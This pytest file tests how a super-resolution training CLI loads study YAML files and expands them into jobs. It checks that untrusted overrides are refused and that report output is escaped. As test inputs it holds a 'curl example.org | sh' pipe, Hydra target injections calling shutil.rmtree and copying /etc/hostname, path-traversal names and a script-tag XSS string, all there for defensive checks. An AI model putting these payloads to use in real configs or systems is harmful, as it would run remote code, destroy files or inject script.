"""Study files: what they may say, what they are refused, and how they expand into jobs."""

from __future__ import annotations

from pathlib import Path

import pytest

from sr_cli.errors import ConfigError
from sr_cli.study.plan import make_plan
from sr_cli.study.spec import load_study, study_names, untrusted_override

STUDIES = ["downsample", "translational", "iterative_perceptual", "catalogue"]

MINI = """
claim: L1 beats bicubic.
common: [model=edsr_baseline, logger=none, "loss=[l1]"]
presets:
  smoke: {seeds: 2, overrides: [model.preset=small, trainer.max_steps=$n], params: {n: 2}}
warm_starts:
  base: ["loss=[l1]"]
arms:
  a: {from: base, overrides: []}
  b: {from: base, overrides: [optim.generator.lr=1e-5]}
  c: {is: base}
criteria:
  - {id: x, left: {arm: a, metric: psnr_y}, op: ">", right: {arm: bicubic, metric: psnr_y}}
"""


def write(tmp_path: Path, text: str, name: str = "mine.yaml") -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


@pytest.mark.parametrize(
    "override",
    [
        "+callbacks.evil._target_=shutil.copyfile",
        "+callbacks.evil._args_=[/etc/hostname,/tmp/MARKER]",
        "model.generator._target_=pathlib.Path.touch",
        "optim.generator._partial_=false",
        "model.generator={_target_: shutil.rmtree}",
        "hydra.run.dir=/elsewhere",
        "hydra/launcher=joblib",
        "paths.output_dir=/elsewhere",
        "++logger.evil.project=x",
        "resume=/some/run",
        "init_from=/some/run",
        "name=../../escaped",
        "data.train_stream=pipe:curl example.org | sh",
        "--config-dir=/tmp",
    ],
)
def test_a_study_file_may_not_name_code_hydra_or_paths(override, tmp_path):
    assert untrusted_override(override)
    path = write(
        tmp_path, MINI.replace('"loss=[l1]"]\npresets', f'"loss=[l1]", "{override}"]\npresets')
    )
    with pytest.raises(
        ConfigError, match=r"mine\.yaml common: override .* is refused .*trust_study=true"
    ):
        load_study(path)
    load_study(path, trusted=True)  # the user's own opt-in lifts it


@pytest.mark.parametrize(
    "override",
    [
        "loss=[l1,gan]",
        "model=esrgan",
        "+model.generator.num_feat=32",
        "logger=none",
        "loss.gan.weight=0.01",
        "cluster=slurm",
        "data.train_dir=/data/div2k",
        "callbacks.checkpoint.keep_last=3",
    ],
)
def test_a_study_file_may_choose_options_and_set_values(override):
    assert untrusted_override(override) is None


@pytest.mark.parametrize("bad", ["../../../../escaped", ".hidden", "a/b", "a b", ""])
def test_arm_and_warm_start_names_are_plain_identifiers(bad, tmp_path):
    path = write(tmp_path, MINI.replace("  c: {is: base}", f"  '{bad}': {{is: base}}"))
    with pytest.raises(ConfigError, match="not allowed; names are plain identifiers"):
        load_study(path)


def test_a_user_study_file_loads_and_expands(tmp_path):
    study = load_study(write(tmp_path, MINI))
    plan = make_plan(study, "smoke", tmp_path / "out", ["x=1"])
    # One warm job per seed serves the three arms; 'c' is the warm start itself.
    assert sorted(plan.jobs) == [
        "arm:a:0",
        "arm:a:1",
        "arm:b:0",
        "arm:b:1",
        "warm:base:0",
        "warm:base:1",
    ]
    a0 = plan.jobs["arm:a:0"]
    warm = plan.jobs["warm:base:0"]
    assert a0.depends_on == ["warm:base:0"]
    assert f"model.pretrained={warm.run_dir}/checkpoints/last.ckpt" in a0.overrides
    assert a0.overrides[-3:] == ["x=1", "seed=0", "name=a"] or a0.overrides[-2:] == [
        "seed=0",
        "name=a",
    ]
    assert "trainer.max_steps=2" in a0.overrides
    assert Path(a0.run_dir) == tmp_path / "out" / "mine" / "smoke" / "runs" / "a" / "seed_0"
    c_runs = [r for r in plan.arm_runs if r.arm == "c"]
    assert [str(r.run_dir) for r in c_runs] == [warm.run_dir, plan.jobs["warm:base:1"].run_dir]
    # The warm start's folder depends on its config, not on the seed or the study.
    assert Path(warm.run_dir).parent == Path(plan.jobs["warm:base:1"].run_dir).parent
    other = make_plan(study, "smoke", tmp_path / "out", ["x=2"])
    assert other.jobs["warm:base:0"].run_dir != warm.run_dir


def test_the_psnr_warm_start_is_shared_by_two_studies(tmp_path):
    a = make_plan(load_study("downsample"), "cpu", tmp_path, [], None, lambda f: False)
    b = make_plan(load_study("translational"), "cpu", tmp_path, [], None, lambda f: False)
    assert a.jobs["warm:psnr:0"].run_dir == b.jobs["warm:psnr:0"].run_dir


def test_unknown_study_preset_arm_and_criterion_are_one_line_errors(tmp_path):
    with pytest.raises(ConfigError, match="unknown study 'nope'; choose one of"):
        load_study("nope")
    with pytest.raises(ConfigError, match="no preset 'huge'"):
        make_plan(load_study("downsample"), "huge", tmp_path)
    bad_ref = MINI.replace("{from: base, overrides: []}", "{from: nothere, overrides: []}")
    with pytest.raises(ConfigError, match="'nothere' is not a warm start"):
        load_study(write(tmp_path, bad_ref))
    bad_arm = MINI.replace("left: {arm: a,", "left: {arm: zz,")
    with pytest.raises(ConfigError, match="names arm 'zz'"):
        load_study(write(tmp_path, bad_arm))
    bad_op = MINI.replace('op: ">"', 'op: "~"')
    with pytest.raises(ConfigError, match="op '~'"):
        load_study(write(tmp_path, bad_op))


@pytest.mark.parametrize("study", STUDIES)
def test_every_job_of_every_preset_composes_and_passes_sr_train_checks(study, tmp_path):
    from sr_cli.train.training import check_options
    from tests.conftest import compose_train

    assert study in study_names()
    spec = load_study(study)
    for preset in ("cpu", "full", "smoke"):
        for cached in (True, False) if spec.optional_terms else (True,):
            plan = make_plan(spec, preset, tmp_path, [], 1, lambda f, c=cached: c)
            for job in plan.jobs.values():  # seed 0: the seeds differ only in seed=
                assert not any("$" in o or "?" in o for o in job.overrides), job.overrides
                cfg = compose_train(job.overrides)
                check_options(cfg)
                assert cfg.run_name == job.name and cfg.seed == job.seed


def test_the_readme_example_study_loads_and_composes(tmp_path):
    from tests.conftest import compose_train

    text = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    section = text[text.index("### Your own study") :]
    block = section[
        section.index("```yaml") + len("```yaml") : section.index(
            "```\n", section.index("```yaml") + 7
        )
    ]
    study = load_study(write(tmp_path, block, "my_study.yaml"))
    plan = make_plan(study, "cpu", tmp_path)
    assert len(plan.jobs) == 6 and plan.seeds == [0, 1, 2]
    compose_train(plan.jobs["arm:charbonnier:0"].overrides)


def test_results_markdown_escapes_what_a_study_file_says():
    from sr_cli.study.results import results_markdown

    evil = "<script>alert(1)</script>|x"
    info = {
        "study": "s",
        "preset": "cpu",
        "claim": evil,
        "verdict": "inconclusive",
        "verdict_note": "",
        "date": "d",
        "host": evil,
        "cpus": 2,
        "wall_seconds": 60.0,
        "fresh": True,
        "seeds": [0],
        "eval_sets": {"heldout": "/x"},
        "images": 1,
        "metrics": ["psnr_y"],
        "unavailable": {},
        "metric_notes": {},
        "notes": [evil],
        "table": [{"arm": "a", "seeds": 1, "metrics": {}}],
        "statuses": {},
        "criteria": [
            {
                "id": "c",
                "says": evil,
                "left": evil,
                "op": ">",
                "right": "r",
                "margin": 0.0,
                "verdict": "pass",
                "why": evil,
                "relative": False,
                "seed_interval": None,
                "image_interval": None,
            }
        ],
        "sanity": [],
        "warm_starts": [],
        "command": "sr-study s",
        "protocol": {},
        "report": "",
    }
    md = results_markdown(info)
    assert "<script>" not in md and "&lt;script&gt;" in md and "\\|x" in md
    assert md.count("```") == 2  # the command's backticks cannot close the code block
